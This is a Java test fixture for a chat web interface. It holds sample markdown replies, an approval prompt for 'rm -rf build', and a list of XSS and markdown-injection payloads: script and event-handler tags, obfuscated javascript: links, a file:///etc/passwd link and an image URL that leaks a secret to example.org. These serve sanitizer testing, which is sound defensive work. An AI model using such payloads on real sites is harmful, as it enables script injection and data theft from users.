package dev.chela.channels.web;

import dev.chela.channels.Button;
import dev.chela.channels.OutboundMessage;
import java.util.List;

/** Things a model might say. */
final class Samples {

    static final String RICH =
            """
            # Findings

            Three modules, **two** of them small. See [the guide](https://example.org/guide).

            | module | lines |
            |:--|--:|
            | config | 2,140 |
            | channels | 5,803 |

            ```java
            record Point(int x, int y) {
                Point { if (x < 0) throw new IllegalArgumentException("x is " + x); }
            }
            ```

            1. first, with `inline code`
            2. second
               - nested ~~gone~~

            > Quoted wisdom.

            ![a picture elsewhere](https://example.org/spy.png)
            """;

    static final String TOUR =
            """
            There are four modules. **channels** is the largest:

            | module | what it does | lines |
            |:--|:--|--:|
            | config | what the operator wrote | 2,140 |
            | channels | who is talking | 5,803 |
            | harness | who answers | 4,917 |
            | bot | the process | 1,266 |

            Counted with:

            ```sh
            find "$module" -name '*.java' | xargs cat | wc -l
            ```
            """;

    static final List<String> ATTACKS =
            List.of(
                    "<script>window.hacked = true</script>",
                    "<img src=x onerror=\"window.hacked = true\">",
                    "[click](javascript:window.hacked=true)",
                    "[click](JaVaScRiPt:window.hacked=true)",
                    "[click](&#106;avascript:window.hacked=true)",
                    "[click](java\tscript:window.hacked=true)",
                    "[click](data:text/html,<script>opener.hacked=true</script>)",
                    "![x](https://example.org/leak?secret=1)",
                    "<iframe src=\"javascript:parent.hacked=true\"></iframe>",
                    "<svg onload=\"window.hacked = true\"></svg>",
                    "```\"><script>window.hacked=true</script>\ncode\n```",
                    "<https://example.org/\"onmouseover=\"hacked=true>",
                    "| <b onclick=hacked=true>x</b> |\n|---|\n| <style>*{display:none}</style> |",
                    "[vb](vbscript:x) [file](file:///etc/passwd) [rel](/web/files/x)");

    static final String ONLY_SAFE_LINKS =
            """
            Array.from(document.querySelectorAll('#log .words a'))
                .every((a) => ['http:', 'https:', 'mailto:'].includes(a.protocol)
                    && a.origin !== location.origin)
            """;

    static final String ALL_CONTROLS_NAMED =
            """
            Array.from(document.querySelectorAll('button, textarea, a'))
                .every((node) => (node.ariaLabel || node.textContent).trim().length > 0)
            """;

    private Samples() {}

    static OutboundMessage approval() {
        return OutboundMessage.of(
                        "**May I run this command?** It deletes files.\n\n```sh\nrm -rf build\n```")
                .withButtons(
                        List.of(
                                List.of(
                                        new Button(
                                                "Allow once",
                                                "approval:7:yes",
                                                Button.Style.PRIMARY),
                                        new Button(
                                                "Always in this session",
                                                "approval:7:session:yes",
                                                Button.Style.SECONDARY),
                                        new Button("Deny", "approval:7:no", Button.Style.DANGER))));
    }
}
